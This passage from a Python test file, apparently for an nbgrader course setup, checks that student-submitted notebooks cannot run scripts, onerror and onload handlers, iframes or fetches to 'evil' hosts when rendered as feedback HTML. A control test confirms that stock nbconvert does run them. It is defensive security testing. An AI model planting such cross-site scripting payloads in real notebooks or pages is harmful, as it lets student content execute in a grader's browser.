    assert seen["ids"] == (2 if renderer == "formgrader" else 0)  # only formgrader's own inputs
    assert seen["scores"] == (2 if renderer == "formgrader" else 0)
    assert not any("evil" in url or url.startswith("data:text/html") for url in remote)
    # the failure and everything the student hid are visible; the fake banner is plain text
    assert error_visible and "AssertionError: expected 3 sources" in text
    for words in ("HIDDEN BY STUDENT", "✓ ALL TESTS PASSED", "HIDDEN IN ESSAY", "ESSAY OVERLAY"):
        assert words in text
    assert f"<script>{ran('essay-script')}</script>" in text  # the essay's, as typed
    assert "“turns into a body-horror revenge thriller” (Variety)" in text
    # honest output: the DataFrame is a table, the PNG an image, printed text is text
    assert seen["headers"] == ["", "source", "words", "0", "1"]
    assert seen["images"] == [1]
    assert "printed <b>text</b>" in text and "after the script" in text


@pytest.mark.slow
def test_without_the_course_config_the_same_payloads_run(browser: Browser, tmp_path: Path) -> None:
    """The control: nbgrader's feedback as stock nbconvert renders it runs the payloads (so the
    test above would see them), and the essay's even when the outputs were cleaned."""
    exporter = feedback_exporter(course_config(sanitizing=False))
    for sanitised in (False, True):
        nb = hostile_notebook(sanitised=sanitised)
        # raw, the widget view and the plotly figure have no template block: nbconvert warns
        unrepresentable = pytest.warns(UserWarning, match="not able to be represented")
        with contextlib.nullcontext() if sanitised else unrepresentable:
            page_html = render(exporter, nb, tmp_path)
        (tmp_path / "stock.html").write_text(page_html, encoding="utf-8")
        page, _ = open_page(browser, tmp_path, "stock.html")
        try:
            seen = set(page.evaluate("() => window.__ran || []"))
        finally:
            page.context.close()
        assert {"essay-script", "essay-onerror"} <= seen
        outputs = {"html-script", "img-onerror", "inline-svg-onload", "iframe", "markdown-output"}
        assert outputs <= seen if not sanitised else not seen & outputs, seen


def test_feedback_never_renders_plotly_figures(tmp_path: Path) -> None:
    """nbconvert's HTML templates have no block for plotly's mime type: a figure from a trusted
    cell (the judge, an instructor's cell) is left out of feedback with or without the course's
    sanitising, so sanitising costs no figure there (formgrader uses the same templates)."""
    figure = display(
        {"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [1, 2]}], "layout": {}}}
    )
    cell = new_code_cell("fig", outputs=[nbformat.from_dict(figure)], metadata=nbgrader_meta("f"))
    nb = new_notebook(cells=[cell])
    for sanitizing in (True, False):
        with pytest.warns(UserWarning, match="not able to be represented"):
            body = render(feedback_exporter(course_config(sanitizing=sanitizing)), nb, tmp_path)
        assert "plotly" not in body.lower()
